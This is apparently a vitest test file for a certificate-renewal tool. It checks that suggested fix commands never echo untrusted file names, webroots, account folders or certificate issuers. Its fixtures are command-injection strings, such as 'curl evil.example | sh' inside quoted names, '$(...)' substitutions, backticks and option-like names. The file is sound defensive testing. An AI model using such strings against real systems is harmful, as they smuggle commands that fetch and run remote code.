import "reflect-metadata";
import { X509Certificate } from "node:crypto";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import * as x509 from "@peculiar/x509";
import { execa } from "execa";
import fc from "fast-check";
import { expect, test } from "vitest";
import { refusal } from "../../../src/acme/refusal.ts";
import { webrootProblem } from "../../../src/challenge/webroot-problems.ts";
import { orderChain } from "../../../src/imported/chain.ts";
import { plainName, plainPath } from "../../../src/model/plain-text.ts";
import { Problem } from "../../../src/model/problem.ts";
import { accountStore } from "../../../src/store/accounts.ts";
import { setAside } from "../../../src/store/set-aside.ts";
import { issued, storeIn } from "../../store/stored.ts";
import { temporaryFolder } from "../../support/folders.ts";
import { lineage } from "../../support/given.ts";
import { newAccount } from "../../support/new-account.ts";
import { makeOwnAuthority } from "../../support/own-authority.ts";

/** Names that end a quoted word, begin a command or are an option, as root in nginx's container can give them to files. */
const names = ["x'; curl evil.example | sh; '", '$(curl evil.example)"', "--config=evil.example", "`evil.example`"];
const directory = "https://ca.test/dir";

async function problemOf(work: () => Promise<unknown>): Promise<Problem> {
  const thrown = await work().then(
    () => undefined,
    (error: unknown) => error,
  );
  expect(thrown).toBeInstanceOf(Problem);
  return thrown as Problem;
}

test.each(names)("a lineage of the name %j stands in no fix, whatever is wrong with it", async (name) => {
  const folder = await temporaryFolder();
  const store = storeIn(folder);
  await store.save(lineage(), await issued());
  const conf = join(folder, "renewal", `${name}.conf`);
  const fixes: string[] = [];
  const look = async () => {
    for (const found of await store.list()) if ("problem" in found) fixes.push(found.problem.fix);
  };
  const texts = ["", "nonsense", "a = 1\na = 2\n", "version = 1\n", "x".repeat(2 * 1024 * 1024)];
  const own = await readFile(join(folder, "renewal", "dify.test.conf"), "utf8");
  for (const text of [...texts, own, own.replaceAll("dify.test", name)]) {
    await writeFile(conf, text);
    await look();
  }
  await execa("rm", [conf]);
  await execa("mkfifo", [conf]);
  await look();
  await execa("rm", [conf]);
  expect(fixes).toHaveLength(8);

  await writeFile(conf, own);
  fixes.push((await problemOf(() => setAside(folder, "dify.test", new Date()))).fix);
  await execa("rm", [conf]);
  await mkdir(join(folder, "archive", name));
  await writeFile(join(folder, "archive", name, "x"), "x");
  fixes.push((await problemOf(() => store.checkWritable(lineage({ name })))).fix);
  for (const fix of fixes) expect(fix).not.toContain("evil");
});

test.each(names)("an account in a folder of the name %j stands in no fix", async (name) => {
  const folder = await temporaryFolder();
  const accounts = accountStore(folder);
  const place = join(folder, "accounts", "ca.test", "dir");
  const { id } = await accounts.save(directory, await newAccount());
  await execa("mv", [join(place, id), join(place, name)]);
  const misplaced = await problemOf(() => accounts.find(directory));
  expect(misplaced.fix).not.toContain("evil");
  await writeFile(join(place, name, "regr.json"), "{}");
  const damaged = await problemOf(() => accounts.find(directory));
  expect(damaged.fix).not.toContain("evil");
});

test.each(names)("a webroot %j, as a saved conf may name it, stands in no fix", (name) => {
  for (const code of ["ENOENT", "EROFS", "EACCES", "ENOSPC", "ELOOP", "EMFILE"]) {
    const error = Object.assign(new Error(code), { code, syscall: "open" });
    expect(webrootProblem(`/var/www/${name}`, error)).toMatchObject({ fix: expect.not.stringContaining("evil") });
  }
});

test("a certificate's issuer, and where it says that its issuer's lies, are told and stand in no fix", async () => {
  const algorithm = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" };
  const keys = (await crypto.subtle.generateKey(algorithm, true, ["sign", "verify"])) as CryptoKeyPair;
  const made = await x509.X509CertificateGenerator.create({
    ...{ subject: "CN=shop.example", issuer: "CN=curl evil.example | sh", publicKey: keys.publicKey },
    ...{ signingKey: keys.privateKey, signingAlgorithm: algorithm },
    extensions: [new x509.AuthorityInfoAccessExtension({ caIssuers: "http://evil.example/$(id)" })],
  });
  const leaf = new X509Certificate(made.toString("pem"));
  const other = new X509Certificate((await makeOwnAuthority("Other")).rootPem);
  for (const others of [[], [other]]) {
    const refused = await problemOf(async () => orderChain(leaf, others, [], new Date()));
    expect(refused.message).toContain("evil.example");
    expect(refused.fix).not.toContain("evil");
  }
});

test.each(["-f.bash_history", "--help", "-x"])(
  "a name %j that a program would take for an option stands in no fix",
  (value) => {
    const identifier = { type: "dns", value };
    for (const type of ["dns", "caa", "connection", "tls"]) {
      const data = { type: "compound", subproblems: [{ type: `urn:ietf:params:acme:error:${type}`, identifier }] };
      expect(refusal({ status: 400, headers: {}, data }, new Date()).fix).not.toContain(value);
    }
  },
);

test("a plain name or path is one that a shell reads as one word, and no program as an option", () => {
  const words = /^(?!-)[^\s"'`$;&|<>()*?[\]{}~!#\\]+$/;
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.constantFrom(...names), fc.webPath()), (text) => {
      expect(plainName(text)).toMatch(words);
      expect(plainPath(text)).toMatch(words);
    }),
  );
  expect(plainPath("/etc/letsencrypt/accounts/127.0.0.1:14000/dir/.x")).toBe(
    "/etc/letsencrypt/accounts/127.0.0.1:14000/dir/.x",
  );
});
